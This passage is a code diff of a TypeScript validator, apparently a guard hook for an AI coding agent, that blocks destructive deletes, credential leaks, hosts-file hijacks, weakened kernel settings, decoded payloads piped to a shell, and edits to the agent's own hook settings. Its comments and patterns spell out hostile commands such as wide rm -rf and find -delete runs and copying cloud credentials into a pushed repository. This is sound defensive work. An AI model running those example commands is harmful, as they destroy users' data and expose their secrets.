+const JUNK_NAME = /^(node_modules|__pycache__|\.pytest_cache|\.mypy_cache|\.ruff_cache|\.tox|\.nox|\.next|\.nuxt|\.turbo|\.parcel-cache|\.cache|\.gradle|\.ipynb_checkpoints|\.DS_Store|\._\*|Thumbs\.db|desktop\.ini|coverage|dist|build|target|out|\.terraform|\.?venv|core(\.\*)?|\*~|\.#\*|#\*#|\*\.(pyc|pyo|class|o|obj|so|dylib|tmp|temp|bak|orig|rej|swp|swo|log|crdownload|part|dmg|map|tsbuildinfo|tar\.gz|tgz|deb|rpm|AppImage|pkg|msi|exe|iso|whl))$/;
+
+/**
+ * find ~ -name '*.sql' -delete, find ~ -name package-lock.json -exec rm {} +: files of one kind deleted across
+ * the whole home (in every project, every download) or across / (the system's own copies too). Only litter
+ * (JUNK_NAME) is everyday there. Returns what goes.
+ */
+function spreadDelete(walk: Walk, abs: string | null, name: string | null, argv: string[]): string | null {
+  // -maxdepth 1: only the files right there, not every project's.
+  if (abs === null || name === null || argv.some((a, k) => argv[k - 1] === '-maxdepth' && /^[01]$/.test(a))) return null;
+  if (abs === '/') return `every file named ${name} on the machine, the system's own among them`;
+  if (/^\/(tmp|var\/tmp)$/.test(abs)) return null;
+  return (broadRoot(walk, abs) || (isPreciousHomeDir(abs, walk.env) && !base(abs).startsWith('.'))) && !JUNK_NAME.test(name) ? `every ${name} across ${abs}: the user's files in every project there` : null;
+}
+
 /** The root of a listing is / , the home directory or one of their ancestors: only filters on names narrow a listing there. */
-function broadRoot(walk: Walk, abs: string | null): boolean {
+function broadRoot(walk: Walk, abs: string | null, finder?: Invocation): boolean {
   if (abs === null) return false;
+  if (isSharedMountRoot(abs, finder?.argv)) return true;
   const c = classifyDelete(abs, walk.env);
-  return c === 'root' || c === 'home' || c === 'ancestor';
+  // /home and /Users hold every user's home.
+  return c === 'root' || c === 'home' || c === 'ancestor' || /^\/(home|Users)\/?$/.test(abs);
 }
 
 /** Any home is a home: a directory right in /home/NAME or /Users/NAME (another checkout, the user's files), not a cache; returns that home. */
+/**
+ * Where servers keep their data: a whole directory right under /srv, /mnt or /data (an app, a mounted
+ * disk), and the stores of databases and container engines under /var/lib. An application installed
+ * or deployed in /opt/NAME is one too; an unpacked versioned download (/opt/node-v18.20.4-linux-x64,
+ * /opt/go1.22, /opt/jdk-17) is replaced by the next one. Releases, logs and caches deeper inside
+ * (/srv/app/releases/2023-*) are everyday cleanup and stay warnings.
+ */
+const DATA_DIR = /^\/(srv|scratch|datasets|shared|nfs|lustre|gpfs|storage|models)\/[^/]+$|^\/(mnt|media|data)\/[^/]+(\/[^/]+)?$|\/var\/(lib\/)?(postgres(ql)?(@[\d.]+)?|mysql|mariadb|mongodb|redis)(\/[^/]+)?$|\/Application Support\/Postgres(\/[^/]+)?$|\/\.local\/share\/(containers|docker)(\/storage(\/volumes)?)?$|^\/opt\/(?![^/]*(\d\.\d|[-_.]v?\d))[^/]+$|^\/var\/lib\/(docker|containerd|mysql|mariadb|postgresql|pgsql|redis|mongodb|elasticsearch|opensearch|etcd|rancher|kubelet|influxdb|clickhouse|cassandra|rabbitmq|minio|grafana|prometheus|jenkins|gitlab|libvirt|lxd|vault|consul)(\/[^/]+){0,2}$/;
+
+/**
+ * `cd /home/dev/projects/shop && rm -rf src package.json`, `cd /home/dev/projects/api/.. && rm -rf api`: a line
+ * that cds into a directory elsewhere works there as in its project (the way Claude Code writes its commands).
+ * Deleting that directory from inside it (rm -rf "$PWD", ./*), the one `cd DIR/..` named and climbed out of,
+ * or its source tree (src/, the project's own too) loses work. A clone made on the line, the temporary
+ * directories and system paths (judged by their own rules) are not such places. Returns what is lost.
+ */
+function workDirDelete(walk: Walk, inv: Invocation, abs: string): string | null {
+  const env = walk.env;
+  if (abs === `${env.project}/src`) return `${abs}, the project's source tree: what is not committed is lost`;
+  for (const w of walk.workDirs) {
+    if (isUnder(w.dir, env.project) || isUnder(env.home, w.dir) || walk.unpacked.some((d) => isUnder(w.dir, d)) || isSystemPath(w.dir, env.home) || (/^\/(tmp|var\/tmp)\//.test(w.dir) && !isUnder(w.dir, env.home))) continue;
+    if (abs === w.named) return `${abs}, the directory the line names and climbs out of to delete it: work that no backup of the project covers`;
+    if (abs === w.dir && inv.cwd !== null && isUnder(inv.cwd, w.dir)) return `${abs}, the directory the line works in: work that no backup of the project covers`;
+    if (abs === `${w.dir}/src`) return `${abs}, the source tree of ${w.dir}, where the line works: work that no backup of the project covers`;
+  }
+  return null;
+}
+
+/** Shared storage mounted right under / (cluster scratch, data and model volumes): a whole one deleted is everyone's data. (A bare /app inside a container is not.) */
+const STORAGE_ROOT = /^\/(scratch|data|datasets|shared|nfs|storage|models|backups?|archive|exports?|lustre|gpfs|beegfs|work|space)$/;
+
 function homeWorkDir(abs: string, env: PathEnv): string | undefined {
   const h = /^\/(?:home|Users)\/[^/]+(?=\/[^/]+$)/.exec(abs)?.[0];
   return h && !isUnder(abs, env.project) && !isHomeCache(abs, { ...env, home: h }) ? h : undefined;
 }
 
-function checkDelete(walk: Walk, inv: Invocation, t: Target, recursive: boolean, verb: string): void {
+function checkDelete(walk: Walk, inv: Invocation, t0: Target, recursive: boolean, verb: string): void {
   const env = walk.env;
+  let t = ownHome(walk, t0);
   // "$d" unknown when the line was parsed but set by the time it runs (eval "d=~"; rm -rf "$d"): its value now.
   const late = t.word.dynamic ? /^\$\{?([A-Za-z_]\w*)\}?(\/.*)?$/.exec(t.word.text) : null;
   const lateVal = late ? walk.vars.get(late[1]) : undefined;
   if (late && lateVal && !lateVal.dynamic && lateVal.text !== t.word.text) {
     t = target(inv, { ...t.word, text: lateVal.text + (late[2] ?? ''), dynamic: false });
+  }
+  // (mv ~/.gitconfig ~/.gitconfig.bak is a backup; the agent's settings moved away switch its hooks off.)
+  const own = t.abs !== null ? ownConfig(walk, t.abs) : null;
+  if (own && (verb !== 'mv' || !own.includes('git configuration'))) {
+    block(walk, 'dangerous', `${verb} deletes ${own}`, 'change one setting with its own tool (git config --global, claude config)');
+    return;
   }
   const was = t.abs !== null ? walk.movedFrom.get(t.abs) : undefined;
   if (was !== undefined && was !== t.abs) {
@@ -2858,6 +3149,20 @@ function checkDelete(walk: Walk, inv: Invocation, t: Target, recursive: boolean,
     block(walk, 'dangerous', `${verb} -r of ${t.abs}, a whole directory in the home directory ${otherHome}: the user's own work, which nothing can bring back`, 'name the exact build or cache directory to remove');
     return;
   }
+  const worked = recursive || t.wholeDir ? workDirDelete(walk, inv, t.abs) : null;
+  if (worked) {
+    block(walk, 'dangerous', `${verb} -r of ${worked}`, 'delete build output by name (dist, build, node_modules)');
+    return;
+  }
+  const shared = recursive || t.wholeDir ? sharedMountLoss(t.abs, env) ?? (recursive ? systemInstallLoss(t.abs, () => walk.out.map((i) => i.argv)) : null) : null;
+  if (shared) {
+    block(walk, 'dangerous', `${verb} -r of ${shared}, which no backup of the project covers`, 'delete inside your own area of the mount (/scratch/$USER/...), by name');
+    return;
+  }
+  if ((recursive || t.wholeDir) && (DATA_DIR.test(t.abs) || STORAGE_ROOT.test(t.abs))) {
+    block(walk, 'dangerous', `${verb} -r of ${t.abs}${inv.remote ? ' on another host' : ''}: ${t.abs.startsWith('/opt/') ? 'an installed application' : "a service's data or a mounted disk"}, which no backup of the project covers`, 'name the release, log or cache directory inside it to remove');
+    return;
+  }
   if (recursive && !isUnder(t.abs, env.project) && !isUnder(t.abs, '/tmp') && !isUnder(t.abs, '/var/tmp') && !t.word.text.startsWith('..')) {
     warn(walk, 'suspicious', `${verb} -r of ${t.abs}, outside the project`);
   }
@@ -2886,6 +3191,15 @@ function checkUnknownDelete(walk: Walk, inv: Invocation, t: Target, verb: string
   const ifEmpty = target(inv, { ...t.word, text: fixed, dynamic: false });
   if (ifEmpty.abs === null) return false;
   const c = classifyDelete(ifEmpty.abs, walk.env);
+  // rm -rf /mnt/datasets/"$DATASET", ~/experiments/$EXP, /scratch/$RUN_ID: empty, the whole data directory (or a
+  // shared mount's area) goes. $USER and $LOGNAME are never empty in a login shell: /scratch/$USER/x is the user's own.
+  const own = /^\$\{?(USER|LOGNAME)\}?$/;
+  const kept = names.some((n) => !own.test(n)) ? target(inv, { ...t.word, text: raw.replace(UNKNOWN_PART, (x) => (own.test(x) ? x : '')), dynamic: false }).abs : null;
+  const lost = kept === null || c ? null : DATA_DIR.test(kept) || isPreciousHomeDir(kept, walk.env) || STORAGE_ROOT.test(kept) ? `all of ${kept}` : sharedMountLoss(kept, walk.env);
+  if (lost) {
+    block(walk, 'dangerous', `${verb} -r "${raw}": if ${names.join(', ')} is empty or unset this deletes ${lost}`, `check it first: [ -n "${names[0] ?? '$DIR'}" ] && rm -rf -- "${raw}"`);
+    return true;
+  }
   if (c && c !== 'system') {
     block(walk, 'dangerous', `${verb} -r "${raw}": if ${names.join(', ')} is empty or unset this is a ${describeDelete(c, ifEmpty.abs)}`, `check it first: [ -n "${names[0] ?? '$DIR'}" ] && rm -rf -- "${raw}"`);
     return true;
@@ -2896,7 +3210,14 @@ function checkUnknownDelete(walk: Walk, inv: Invocation, t: Target, verb: string
 /** The shells' and REPLs' history files. */
 const HISTORY_FILE = /\/\.(bash|zsh|sh|python|psql|mysql)_history$|\/\.local\/share\/fish\/fish_history$/;
 
-function checkWrite(walk: Walk, inv: Invocation, t: Target, verb: string, sources: Word[] | null = null): void {
+/** /home/$USER/x and /Users/$LOGNAME/x: the user's own home (the shell puts the name in). */
+function ownHome(walk: Walk, t: Target): Target {
+  const m = t.abs !== null && t.abs.includes('$') ? /^\/(?:home|Users)\/\$\{?(?:USER|LOGNAME)\}?(?=\/|$)/.exec(t.abs) : null;
+  return m ? { ...t, abs: walk.env.home + t.abs!.slice(m[0].length) } : t;
+}
+
+function checkWrite(walk: Walk, inv: Invocation, t0: Target, verb: string, sources: Word[] | null = null): void {
+  const t = ownHome(walk, t0);
   // "$(python3 -m site --user-site)/x.pth": a start-up hook of Python named through the site directory.
   if (t.abs === null && /\.pth$|(user|site)customize\.py$/.test(t.word.text) && t.word.subs.some((x) => /\bsite\b|site-packages|purelib|platlib/.test(x))) {
     block(walk, 'dangerous', `${verb} writes ${t.word.text}, a file Python runs at every start: a way to stay on the machine`, 'show the user the change and let them make it');
@@ -2905,6 +3226,11 @@ function checkWrite(walk: Walk, inv: Invocation, t: Target, verb: string, source
   if (t.abs === null) return;
   if (isDiskDevice(t.abs)) {
     block(walk, 'dangerous', `${verb} writes onto the disk device ${t.abs}`);
+    return;
+  }
+  const own = ownConfig(walk, t.abs);
+  if (own && !own.includes('git configuration')) {
+    block(walk, 'dangerous', `${verb} rewrites ${own}: the guard could be switched off`, 'ask the user to change the settings');
     return;
   }
   // echo 0000… > .git/refs/heads/main, cp x .git/objects/pack/…: git's store overwritten behind git's back.
@@ -2927,11 +3253,79 @@ function checkWrite(walk: Walk, inv: Invocation, t: Target, verb: string, source
     return;
   }
   if (!isSystemPath(t.abs, walk.env.home) && checkShadow(walk, inv, t, verb, sources)) return;
+  if (isSystemPath(t.abs, walk.env.home) && routineAdminWrite(walk, inv, t.abs, verb, sources)) return;
   if (isSystemPath(t.abs, walk.env.home)) block(walk, 'system', `${verb} writes to the system path ${t.abs}`, 'system files are changed through the package manager or a reviewed config change, not by the assistant');
   // A public key (ssh-keygen -y > id_ed25519.pub) holds nothing secret and is made again from the key.
   else if (/\.pub$/.test(t.abs) && isUnder(t.abs, `${walk.env.home}/.ssh`)) return;
   // ~/.kube/config-ci, ~/.aws/ci-profile: a new file beside the tools' own (config, credentials, keys) overwrites nothing of the user's.
+  // echo 'localhost:5432:*:app:pw' >> ~/.pgpass: one more host's line in a password file; the others stay.
+  else if (/\/\.(pgpass|netrc)$/.test(t.abs) && (verb === 'redirection (>>)' || (verb === 'tee' && inv.argv.some((a) => /^-[a-zA-Z]*a|^--append$/.test(a))))) warn(walk, 'system', `${verb} adds a line to the password file ${t.abs}`);
   else if (isSecretPath(t.abs, walk.env) && verb !== 'mkdir' && !(/\/\.(kube|aws)\/[^/]+$/.test(t.abs) && !/\/(config|credentials|sso|cli)$/.test(t.abs) && isUnder(t.abs, walk.env.home))) block(walk, 'system', `${verb} writes to the credentials file ${t.abs}`);
+}
+
+/** Hosts that code and packages come from (or go to): a hosts line sending one elsewhere hijacks them. */
+const SUPPLY_HOST = /(^|\.)(github|githubusercontent|gitlab|bitbucket|npmjs|yarnpkg|pypi|pythonhosted|rubygems|crates|docker|golang|maven|nuget|anthropic|openai|googleapis|amazonaws|microsoft|apple|ubuntu|debian)\.[a-z.]+$/;
+/** sysctl keys whose change weakens the kernel's defences (ASLR, ptrace, address leaks, BPF) or runs a program as root (a piped core_pattern). */
+const WEAK_SYSCTL = /\b(randomize_va_space|ptrace_scope|kptr_restrict|dmesg_restrict|unprivileged_bpf_disabled|unprivileged_userns_clone|perf_event_paranoid|sysrq|modules_disabled)\b|core_pattern\s*=\s*\|/;
+
+/**
+ * Everyday admin that the lead's policy (issue 13, evening session) turns from a block into a
+ * warning: lines APPENDED to /etc/hosts, /etc/sysctl.conf or /etc/sysctl.d/*.conf (tee -a, >>),
+ * and a site linked from sites-available into sites-enabled (nginx, apache). Overwriting any of
+ * them stays blocked. Two appends stay blocked by what they say: a hosts line that sends a public
+ * name to a public address, or a code or package host anywhere but loopback (DNS hijack of the
+ * next install), and a sysctl line that weakens the kernel's defences. True when decided here.
+ */
+function routineAdminWrite(walk: Walk, inv: Invocation, abs: string, verb: string, sources: Word[] | null): boolean {
+  if (verb === 'ln') {
+    const m = /^\/etc\/(nginx|apache2|httpd)\/(sites|conf|mods)-enabled(\/[^/]+)?$/.exec(abs);
+    const from = sources ?? [];
+    if (!m || from.length === 0 || !from.every((w) => new RegExp(`^((/etc/${m[1]}/)|\\.\\./)?${m[2]}-available/[^/]+$`).test(w.text))) return false;
+    warn(walk, 'system', `ln enables ${from.map((w) => w.text).join(' ')} in /etc/${m[1]}/${m[2]}-enabled: the web server serves it after its next reload`, 'check it with nginx -t (or apachectl configtest) before the reload');
+    return true;
+  }
+  // sudo cp deploy/nginx/api.conf /etc/nginx/sites-available/: a site's config from the repository, the step before the link above.
+  // (A unit copied into /etc/systemd/system is not: it runs as root at every boot, whatever the file says.)
+  if (/^(cp|install)$/.test(verb) && /^\/etc\/(nginx|apache2|httpd)\/(sites-available|sites-enabled|conf\.d|conf-available)(\/[^/]+)?$/.test(abs) && sources && sources.length > 0) {
+    const from = sources.map((w) => (w.dynamic ? null : target(inv, w).abs));
+    if (from.every((f) => f !== null && isUnder(f, walk.env.project) && f !== walk.env.project && !walk.files.has(f))) {
+      warn(walk, 'system', `${verb} installs the site config ${from.map((f) => path.posix.relative(walk.env.project, f!)).join(' ')} into ${abs}: the web server serves it after its next reload`, 'check it with nginx -t (or apachectl configtest) before the reload');
+      return true;
+    }
+  }
+  // echo 1 > /proc/sys/net/ipv4/ip_forward: sysctl -w by another name, gone at the next boot (keys that weaken the kernel stay blocked).
+  if (/^\/proc\/sys\/./.test(abs) && /^(redirection \(>>?\|?\)|tee)$/.test(verb)) {
+    if (WEAK_SYSCTL.test(abs.replace(/\//g, '.')) || /core_pattern$/.test(abs)) return false;
+    warn(walk, 'system', `${verb} sets the kernel setting ${abs} until the next boot`);
+    return true;
+  }
+  // pg_dump … > /var/backups/app-$(date +%F).dump: a new dump; the system's own backups there (passwd.bak, dpkg.status.0) stay protected.
+  if (/^\/var\/backups\/[^/]+$/.test(abs) && !/^\/var\/backups\/(passwd|shadow|group|gshadow|dpkg|apt|alternatives|infodir)/.test(abs) && /^(redirection \(>>?\|?\)|tee|cp)$/.test(verb)) {
+    warn(walk, 'system', `${verb} writes the backup ${abs}`);
+    return true;
+  }
+  const appends = verb === 'redirection (>>)' || (verb === 'tee' && inv.argv.some((a) => /^-[a-zA-Z]*a[a-zA-Z]*$|^--append$/.test(a)));
+  const file = /^\/etc\/(hosts|sysctl\.conf|sysctl\.d\/[^/]+\.conf)$/.exec(abs);
+  if (!appends || !file) return false;
+  const echoed = verb !== 'tee' && /^(echo|printf)$/.test(inv.argv[0] ?? '') ? inv.argv.slice(1).filter((a, k) => !(k === 0 && /^-[neE]+$/.test(a))).join(' ').replace(/\\n/g, '\n') : null;
+  const text = echoed ?? stdinText(inv) ?? '';
+  for (const line of text.split('\n')) {
+    const [addr, ...names] = line.trim().split(/\s+/);
+    if (file[1] === 'hosts' && addr && !addr.startsWith('#') && !/^(127\.|::1$|0\.0\.0\.0$)/.test(addr)) {
+      const local = /^(10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|169\.254\.|f[cd]|fe80:)/i.test(addr);
+      const hijacked = names.find((n) => /\.[a-z]{2,}$/i.test(n) && !/\.(local|localhost|test|example|internal|lan|home\.arpa|invalid|corp|intranet)$/i.test(n) && (!local || SUPPLY_HOST.test(n.toLowerCase())));
+      if (hijacked) {
+        block(walk, 'system', `${verb} appends to ${abs} a line sending ${hijacked} to ${addr}: every program on the machine then talks to that address instead`, 'point only local names (.local, .test, localhost) at addresses you run');
+        return true;
+      }
+    }
+    if (file[1] !== 'hosts' && WEAK_SYSCTL.test(line)) {
+      block(walk, 'system', `${verb} appends "${line.trim()}" to ${abs}: it weakens the kernel's defences at every boot`);
+      return true;
+    }
+  }
+  warn(walk, 'system', `${verb} appends to the system file ${abs}`, 'check the line; remove it the same way when it is no longer needed');
+  return true;
 }
 
 /** Two paths in one directory whose names extend each other (config / config.bak, id_rsa / id_rsa.2024): a backup and its original. */
@@ -2971,6 +3365,39 @@ function checkShadow(walk: Walk, inv: Invocation, t: Target, verb: string, sourc
   const dest = isPathDir(t.abs, walk.env) ? `${t.abs}/${name}` : t.abs;
   block(walk, 'dangerous', `${verb} puts a program named ${name} at ${dest}, on the search path: every later \`${name}\` would run it instead of the real one`, `install it under its own name (e.g. ${path.posix.dirname(dest)}/my-${name}) or ask the user`);
   return true;
+}
+
+/**
+ * Configuration that is the user's own work or the agent's guard: ~/.gitconfig (identity, aliases, signing,
+ * credential helpers) and Claude Code's settings files (~/.claude/settings.json, the project's
+ * .claude/settings*.json), which hold the hooks (this validator among them) and the permissions.
+ */
+function ownConfig(walk: Walk, abs: string): string | null {
+  const h = walk.env.home;
+  if (abs === `${h}/.gitconfig` || abs === `${h}/.config/git/config`) return `${abs}, the user's git configuration (identity, aliases, signing, credential helpers)`;
+  if (abs === `${h}/.claude.json`) return `${abs}, the agent's own state: the MCP servers it starts`;
+  if (abs === `${h}/.claude/settings.json` || abs === `${h}/.claude/settings.local.json` || abs === `${walk.env.project}/.claude/settings.json` || abs === `${walk.env.project}/.claude/settings.local.json`) return `${abs}, the agent's own settings: its hooks (this guard) and permissions`;
+  return null;
+}
+
+/** The command prints nothing (a bare redirection, `:`, `true`, `cat /dev/null`, `echo -n`, `printf ''`): its `>` only empties the file. */
+function writesNothing(inv: Invocation): boolean {
+  const [c, ...args] = inv.argv;
+  return c === undefined || ((c === ':' || c === 'true') && inv.upstream.length === 0) || (c === 'cat' && args.length > 0 && args.every((a) => a === '/dev/null')) || (c === 'echo' && args.every((a) => a === '' || /^-[neE]+$/.test(a))) || (c === 'printf' && args.length === 1 && args[0] === '');
+}
+
+/**
+ * A secret file emptied in place (`: > .env`, `cat /dev/null > .env`, `truncate -s 0 .env`, `cp /dev/null
+ * .env`): its keys and passwords are often kept nowhere else, and emptying it, unlike a reset from the
+ * template, has no constructive reading. (rm of a project's .env stays a reset; the home's stores are
+ * refused as writes anyway.)
+ */
+function checkEmptied(walk: Walk, t: Target, how: string): void {
+  const data = t.abs !== null ? dataFileEmptied(t.abs, walk.env) : null;
+  if (data) block(walk, 'dangerous', `${how} destroys ${data}, which no backup of the project covers`, 'delete or move the one file meant, by name');
+  const own = t.abs !== null ? ownConfig(walk, t.abs) : null;
+  if (own) block(walk, 'dangerous', `${how} empties ${own}`, 'change one setting with its own tool (git config --global, claude config)');
+  else if (t.abs !== null && !(/^\/(tmp|var\/tmp|dev)\//.test(t.abs) && !isUnder(t.abs, walk.env.home) && !isUnder(t.abs, walk.env.project)) && isSecret(walk, t.abs)) block(walk, 'dangerous', `${how} empties the secret file ${t.abs}: the keys and passwords in it are lost`, 'move it aside (mv .env .env.bak) if it must go');
 }
 
 function checkRead(walk: Walk, inv: Invocation, t: Target, verb: string): void {
@@ -3014,9 +3441,41 @@ function checkRedirects(walk: Walk, inv: Invocation): void {
     // for f in ~/.{bashrc,zshrc}; do … >> "$f": each value of the loop is written in turn.
     const ts = r.target.brace ? expandWords([r.target], walk.env.home).map((w) => target(inv, w)) : [t];
     for (const x of ts) {
+      if (out && /^>\|?$/.test(r.op) && writesNothing(inv)) checkEmptied(walk, x, `> ${r.target.text}`);
       if (out) checkWrite(walk, inv, x, `redirection (${r.op})`);
       else if (r.op === '<' || r.op === '<>') checkRead(walk, inv, x, 'input redirection');
     }
+  }
+}
+
+/** Stands in walk.secretFiles for the clipboard once the line copies a secret into it. */
+const CLIPBOARD = '<clipboard>';
+
+/**
+ * A secret carried out by a later step: copied into the work tree, then added and pushed (cp ~/.aws/credentials
+ * data/ && dvc add data/credentials && dvc push; git add notebooks/token && git push), or put on the clipboard
+ * (security … -w | pbcopy) to be pasted into a sender (curl -d "$(pbpaste)").
+ */
+function checkSecretCarried(walk: Walk, inv: Invocation): void {
+  const [name, ...args] = inv.argv;
+  if (/^(pbcopy|wl-copy|xclip|xsel)$/.test(name ?? '') && !args.some((a) => /^(-o|--output|-out)$/.test(a)) && withInner(inv.upstream).some((u) => producesSecret(walk, u))) walk.secretFiles.add(CLIPBOARD);
+  if (!/^(git|hub|dvc)$/.test(name ?? '') || !args.includes('push')) return;
+  // Where the line's copies of secrets landed: DEST, and DEST/NAME when DEST is a directory.
+  const carried: string[] = [];
+  for (const a of walk.out) {
+    if (a === inv) break;
+    if (!/^(cp|install|rsync|mv)$/.test(a.argv[0])) continue;
+    const ops = operands(a.words, new Set(['-t', '-S', '-m', '-o', '-g', '--target-directory', '--suffix', '--mode']));
+    const dest = ops.length >= 2 ? target(a, ops[ops.length - 1]).abs : null;
+    if (dest !== null) for (const w of ops.slice(0, -1)) if (isSecret(walk, target(a, w).abs)) carried.push(dest, `${dest}/${path.posix.basename(target(a, w).abs!)}`);
+  }
+  for (const a of walk.out) {
+    if (a === inv) break;
+    if (!/^(git|dvc)$/.test(a.argv[0]) || a.argv[1] !== 'add' || a.cwd === null) continue;
+    const all = a.argv.some((x) => /^(-A|--all|-u|--update)$/.test(x));
+    const added = [...operands(a.words).slice(1).map((w) => target(a, w).abs), ...(all ? [a.cwd] : [])];
+    const hit = added.find((p) => p !== null && (isSecret(walk, p) || [...walk.secretFiles, ...carried.slice(1)].some((f) => f !== CLIPBOARD && isUnder(f, p)) || carried.includes(p)));
+    if (hit) return block(walk, 'dangerous', `${name} push sends ${hit}, a secret the line copied in and added with ${a.argv[0]} add`, 'keep keys and tokens out of the repository and its data remote');
   }
 }
 
@@ -3040,6 +3499,13 @@ function checkPipelineIntoShell(walk: Walk, inv: Invocation): void {
     return;
   }
   const dec = ups.find((u) => isDecoding(u.argv));
+  // echo ZWNobyBoZWxsbw== | base64 -d | sh: base64 of text on the line is no secret; what it decodes to is judged instead.
+  const input = dec && dec.argv[0] === 'base64' && dec === inv.upstream[inv.upstream.length - 1] && SHELLS.has(inv.argv[0]) ? stdinText(dec) : null;
+  const plain = input !== null && /^[A-Za-z0-9+/=\s]+$/.test(input) ? Buffer.from(input.replace(/\s+/g, ''), 'base64').toString('utf8') : null;
+  if (plain !== null && plain.trim() !== '' && /^[\x09\x0a\x0d\x20-\x7e]+$/.test(plain)) {
+    collect(walk, plain, inv.cwd, 1, true);
+    return;
+  }
   if (dec) {
     block(walk, 'dangerous', `decoding text (${dec.argv[0]}) into ${inv.argv[0]} runs commands hidden from review`, 'decode to a file and read it first');
   }
@@ -3139,6 +3605,13 @@ function checkPermissions(walk: Walk, inv: Invocation): void {
     const t = target(inv, f);
     if (t.abs === null) continue;
     const c = classifyDelete(t.abs, walk.env);
+    // chown -R postgres:postgres /var/lib/postgresql/16/main: a service's data directory given back to the service's own user.
+    const service = name === 'chown' ? /^\/var\/lib\/([a-z]+)/.exec(t.abs)?.[1] : undefined;
+    const owner = /^[a-z][a-z0-9_-]*/.exec(mode)?.[0] ?? '';
+    if (service && owner.length >= 4 && service.startsWith(owner)) {
+      warn(walk, 'system', `chown -R gives ${t.abs} back to the service user ${mode}`);
+      continue;
+    }
     if (c === 'root' || c === 'home' || c === 'ancestor' || c === 'top-level' || (c === 'system' && recursive)) {
       // chmod 000 ~ locks the user out of their home; chmod 777 ~ opens it (and ssh then refuses its keys).
       const lockout = name === 'chmod' && (/^0?0[0-7]{2}$/.test(mode) || /^0?[0-7]{2}7$/.test(mode) || /^(a|ugo)?[=-]/.test(mode) && /^(a|ugo)?(=|-rwx)$/.test(mode));
@@ -3160,7 +3633,9 @@ function checkPermissions(walk: Walk, inv: Invocation): void {
     // A mode giving group or others any access (644, 0640, o+r, g+rw, a=r, and +r, whose who-part defaults to all).
     const opens = /^0?[0-7]?[0-7]([1-7][0-7]|[0-7][1-7])$/.test(mode) || /(^|,)([ugoa]*[aog][ugoa]*)?[+=][rwxXst]*[rw]/.test(mode);
     const chownAway = name !== 'chmod' && /^(nobody|nogroup|www-data|daemon|nginx|apache|http|httpd|guest|ftp|games|sys|bin|mail|news|uucp|proxy|backup|list|irc|gnats|_www)([:.]|$)|^[:.](nobody|nogroup|www-data|users|everyone|staff|adm|wheel)$/.test(mode);
-    const opensSecret = isSecret(walk, t.abs) && !isSharedSshFile(t.abs) && ((name === 'chmod' && opens) || chownAway);
+    // A server's key under /etc given to its group only (chmod 640 …/example.com.key, chown root:ssl-cert): how services read their keys.
+    const groupOnly = name === 'chmod' && /^\/etc\//.test(t.abs) && /^0?[0-7]?[0-7][0-7]0$/.test(mode);
+    const opensSecret = isSecret(walk, t.abs) && !isSharedSshFile(t.abs) && ((name === 'chmod' && opens && !groupOnly) || chownAway);
     // chown -R $USER ~/.config/gcloud (or $(whoami), $(id -u)): ownership given back to the user, nothing granted to others.
     const toUser = name !== 'chmod' && (/\$\{?(USER|LOGNAME|UID)\b/.test(spec.text) || spec.subs.some((sub) => /^\s*(whoami|id\b|logname)/.test(sub)) || spec.text.includes('$(…)') && spec.subs.length > 0 && spec.subs.every((sub) => /^\s*(whoami|id|logname)\b/.test(sub)));
     if (toUser && isUnder(t.abs, walk.env.home) && t.abs !== walk.env.home) continue;
@@ -3227,7 +3702,7 @@ function checkFind(walk: Walk, inv: Invocation): void {
     const t = target(inv, r);
     if (t.abs === null) continue;
     const c = classifyDelete(t.abs, walk.env);
-    const filtered = broadRoot(walk, t.abs) ? nameFiltered : anyFilter;
+    const filtered = broadRoot(walk, t.abs, inv) ? nameFiltered : anyFilter;
     if (namePattern && isSecretName(namePattern) && (broadRoot(walk, t.abs) || isUnder(t.abs, walk.env.home)) && !isUnder(t.abs, walk.env.project)) {
       block(walk, 'dangerous', `find ${t.abs} -name '${namePattern}' -delete deletes keys and credentials`, 'remove the one file meant, by its path');
       continue;
@@ -3244,6 +3719,16 @@ function checkFind(walk: Walk, inv: Invocation): void {
     }
     if (!anyFilter && c === null && homeWorkDir(t.abs, walk.env)) {
       block(walk, 'dangerous', `find ${t.abs} … -delete empties ${t.abs}, a directory of a home: the user's own work`, 'name the exact build or cache directory to remove');
+      continue;
+    }
+    const worked = anyFilter ? null : workDirDelete(walk, inv, t.abs);
+    if (worked) {
+      block(walk, 'dangerous', `find -delete with no filter empties ${worked}`, 'name the exact build or cache directory to remove');
+      continue;
+    }
+    const spread = nameFiltered ? spreadDelete(walk, t.abs, namePattern, inv.argv) : null;
+    if (spread) {
+      block(walk, 'dangerous', `find -delete deletes ${spread}`, 'delete inside one project, or name the exact files');
       continue;
     }
     // find . -name '*.ts' -delete at the project's root: every source file of that language.
@@ -3264,6 +3749,11 @@ function checkFind(walk: Walk, inv: Invocation): void {
     // ~/Documents, ~/.ssh: only a filter on names narrows what is deleted there.
     if (!c && !nameFiltered && isPreciousHomeDir(t.abs, walk.env)) {
       block(walk, 'dangerous', `find ${t.abs} … -delete with no filter on names: every file of ${t.abs}, which nothing can bring back`, 'name the files to delete (-name PATTERN) and run it first without -delete');
+      continue;
+    }
+    const shared = filtered ? null : sharedMountLoss(t.abs, walk.env);
+    if (shared) {
+      block(walk, 'dangerous', `find ${t.abs} … -delete with no filter on names deletes ${shared}`, 'delete inside your own area of the mount (/scratch/$USER/...), by name');
       continue;
     }
     if (c && !filtered) block(walk, c === 'system' ? 'system' : 'dangerous', `find -delete with no filter: ${describeDelete(c, t.abs)}`, 'add a filter (-name, -type, -mtime) and run it first without -delete to see the list');
@@ -3370,6 +3860,9 @@ function checkGit(walk: Walk, inv: Invocation): void {
         }
         ops.push(a);
       }
+      // A bare repository in a temporary directory (git init --bare "$(mktemp -d)/r.git"; git push -f "$work/r.git" main) is a test fixture, nobody's history.
+      const scratch = ops[0] !== undefined && inv.cwd !== null && /^(\/|\.\.?\/|file:\/\/)/.test(ops[0]) && throwawayDir(walk, resolveFrom(inv.cwd, ops[0].replace(/^file:\/\//, '')));
+      if (scratch) break;
       const refspecs = ops.slice(1);
       const deleting = has('--delete', '-d');
       let plusForce = false;
@@ -3439,14 +3932,21 @@ function checkGit(walk: Walk, inv: Invocation): void {
         critical(walk, 'git reset --hard');
       }
       break;
+    case 'worktree':
+      // git worktree remove --force DIR: that work tree's uncommitted and untracked changes go, as reset --hard and clean -f would (a warning, as they are).
